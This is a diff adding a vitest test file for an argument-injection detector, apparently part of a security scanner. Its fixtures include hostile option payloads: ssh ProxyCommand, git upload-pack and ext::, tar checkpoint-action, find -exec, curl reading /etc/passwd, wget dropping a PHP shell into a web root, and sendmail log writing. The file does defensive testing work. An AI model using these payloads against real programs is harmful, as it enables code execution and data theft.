@@ -1,0 +1,31 @@
+import { expect, test } from 'vitest';
+import { argumentInjection } from '../../../src/attacks/shell/argument-injection.ts';
+
+test.each([
+  '-oProxyCommand=touch /tmp/x',
+  '--upload-pack=id',
+  '--use-compress-program=sh',
+  '--checkpoint-action=exec=sh x.sh',
+  'ext::sh -c id',
+  "'-exec cat {} ;",
+  '-d @/etc/passwd',
+  '-O /var/www/html/s.php http://203.0.113.9/s',
+  '-froot@localhost -OQueueDirectory=/tmp -X/var/www/html/x.php',
+])('an option that runs, reads or writes is found: %s', (value) => {
+  expect(argumentInjection(value.toLowerCase())).not.toBeNull();
+});
+
+test.each([
+  '-5',
+  '- item',
+  '--',
+  '-o json',
+  '--output=report.txt',
+  '-d',
+  '--help me',
+  'e-mail',
+  '-c',
+  '--config=app.json',
+])('another value with a dash is none: %s', (value) => {
+  expect(argumentInjection(value)).toBeNull();
+});
